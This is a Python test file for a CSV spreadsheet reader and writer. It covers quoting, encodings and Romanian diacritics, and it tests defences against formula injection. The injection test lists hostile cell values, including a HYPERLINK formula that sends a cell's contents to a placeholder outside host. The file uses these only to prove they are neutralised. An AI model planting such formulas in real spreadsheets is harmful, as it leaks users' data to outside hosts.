"""Tables as spreadsheets take and give them."""

from __future__ import annotations

import csv
import io

import pytest
from coalition.core.problems import Problems
from coalition.core.sheets import SIZE_LIMIT, cell, read, written
from hypothesis import given
from hypothesis import strategies as st

COLUMNS = ("id", "note")


def rows(raw: bytes, language: str = "ro") -> list[tuple[str, str]]:
    return [(row.cells["id"], row.cells["note"]) for row in read(raw, "t.csv", COLUMNS, language)]


def wrong(raw: bytes, language: str = "ro") -> list[tuple[str, int]]:
    with pytest.raises(Problems) as found:
        read(raw, "t.csv", COLUMNS, language)
    return [(one.code, one.place.line) for one in found.value.problems]


# --- out -------------------------------------------------------------------------------------------


def test_a_table_is_as_rfc_4180_says_with_a_mark_for_excel() -> None:
    raw = written([COLUMNS, ("a", 'Ș, „b” "c"\nd')])
    assert raw == b'\xef\xbb\xbf"id","note"\r\n"a","' + 'Ș, „b” ""c""\nd"\r\n'.encode()
    assert list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""))) == [
        ["id", "note"],
        ["a", 'Ș, „b” "c"\nd'],
    ]


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+40 254",
        "-1",
        "@SUM(A1)",
        "\t=1",
        '=HYPERLINK("https://e.example/?"&A1,"x")',
        " =1",
        # Programs in whose country the comma is decimal take the semicolon for the separator.
        "Un titlu;=1+1",
        'Un titlu; "=1+1"',
        "Un titlu\t@SUM(A1)",
    ],
)
def test_no_cell_is_a_formula_whatever_the_separator(text: str) -> None:
    raw = written([("id", "note"), ("a", cell(text))]).decode("utf-8-sig")
    for separator in ",;\t":
        for row in csv.reader(io.StringIO(raw, newline=""), delimiter=separator):
            for one in row:
                # What a program makes of quotes in the middle differs.
                assert one.replace('"', "").strip(" ,")[:1] not in tuple("=+-@\t\r"), one


@pytest.mark.parametrize("text", ["1.10", "2026-02", "2026", "1/2", "1e5", "sep-2", "mar1", "007"])
def test_what_looks_like_a_number_or_a_date_stays_a_text(text: str) -> None:
    assert cell(text) == f"'{text}"


@pytest.mark.parametrize(
    "text", ["", "a1", "Măsura 2", "2 martie 2026", "completed", "'n", "a=b", "a - b", "a;b"]
)
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert cell(text) == text


# --- back ------------------------------------------------------------------------------------------


@given(
    st.lists(
        st.tuples(st.text("aș1.=-@';,\" \n", max_size=9).map(str.strip), st.just("x")), max_size=4
    )
)
def test_what_goes_out_comes_back(texts: list[tuple[str, str]]) -> None:
    kept = [one for one in texts if not one[0].startswith("'") and ";" not in one[0]]
    raw = written([COLUMNS, *((cell(one), note) for one, note in kept)])
    assert rows(raw) == kept


TABLE = 'id,note\na,"Ț, ș"\nb,\n'


@pytest.mark.parametrize(
    "raw",
    [
        TABLE.encode(),
        TABLE.encode("utf-8-sig"),
        TABLE.replace("\n", "\r\n").encode(),
        TABLE.replace("\n", "\r").encode(),
        TABLE.encode("utf-16"),
        b'id;note\na;"\xc8\x9a, \xc8\x99"\nb;\n',
        b'sep=;\nid;note\na;"\xc8\x9a, \xc8\x99"\nb;\n',
        b"ID\tNote\na\t\xc8\x9a, \xc8\x99\nb\n\n\t\n",
        # Excel in Romanian: Windows-1250, which has the cedilla only.
        b'id;note\r\na;"\xde, \xba"\r\nb;\r\n',
        b'note,id,more\n"\xc8\x9a, \xc8\x99",a,1\n,b,2\n',
    ],
)
def test_a_table_is_read_as_programs_save_it(raw: bytes) -> None:
    assert rows(raw) == [("a", "Ț, ș"), ("b", "")]


@pytest.mark.parametrize(
    ("language", "page", "text"),
    [
        ("mk", "cp1251", "Ѓорче"),
        ("mk-MK", "cp1251", "Ѓорче"),
        ("uk", "cp1251", "Її"),
        ("sr", "cp1251", "Ђорђе"),
        ("sr-Cyrl", "cp1251", "Ђорђе"),
        ("sr-Latn", "cp1250", "Đorđe"),
        ("sr-Latn-RS", "cp1250", "Đorđe"),
        ("hu", "cp1250", "őűş"),
        ("sq", "cp1250", "çë"),
        ("pl", "cp1250", "łąż"),
        ("de-AT", "cp1252", "groß"),
        ("fr", "cp1252", "très œuvre"),
        ("el", "cp1253", "Έτοιμο"),
        ("tr", "cp1254", "ışğ"),
        ("lt", "cp1257", "ėų"),
    ],
)
def test_the_code_page_is_that_of_the_language(language: str, page: str, text: str) -> None:
    assert rows(f"id;note\na;{text}\n".encode(page), language) == [("a", text)]


@pytest.mark.parametrize("language", ["ro", "ro-RO", "ro-MD"])
def test_in_romanian_a_cedilla_is_a_comma(language: str) -> None:
    assert rows("id;note\na;Ţară şi\n".encode("cp1250"), language) == [("a", "Țară și")]


@pytest.mark.parametrize("language", ["rom", "ka", "ar", "az-Cyrl", "sr-Arab", "x"])
def test_letters_of_which_the_code_page_is_not_known_are_no_guess(language: str) -> None:
    raw = b"id;note\na;\xe3\xee\n"
    assert wrong(raw, language) == [("sheet_not_text", 1)]
    assert rows("id;note\na;ș\n".encode(), language) == [("a", "ș")]


@pytest.mark.parametrize(
    ("raw", "found"),
    [
        (b"", [("sheet_columns", 1), ("sheet_columns", 1)]),
        (b"\nname,note\n1,2\n", [("sheet_columns", 2)]),
        (b"id,note,Note\na,b,c\n", [("duplicate_key", 1)]),  # which of the two is meant?
        (b'id,note\na,"b\nc,d\n', [("sheet_broken", 3)]),
        (b"id,note\na,b,c\nd,e\nf,g,h\n", [("sheet_width", 2), ("sheet_width", 4)]),
        (b"id,note\na,\x00\n", [("control_character", 2)]),
        (b"id,note\na,\x81\n", [("sheet_not_text", 1)]),
        (b"\xff\xfea", [("sheet_not_text", 1)]),
        (b"PK\x03\x04\x14\x00\x06\x00", [("sheet_not_text", 1)]),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", [("sheet_not_text", 1)]),
        (b"x" * (SIZE_LIMIT + 1), [("sheet_too_large", 1)]),
    ],
)
def test_what_is_no_table_is_named(raw: bytes, found: list[tuple[str, int]]) -> None:
    assert wrong(raw) == found


def test_the_line_of_a_row_is_where_it_begins() -> None:
    found = read(b'id,note\na,"b\nc"\n\nd,e\n', "t.csv", COLUMNS, "ro")
    assert [row.line for row in found] == [2, 5]
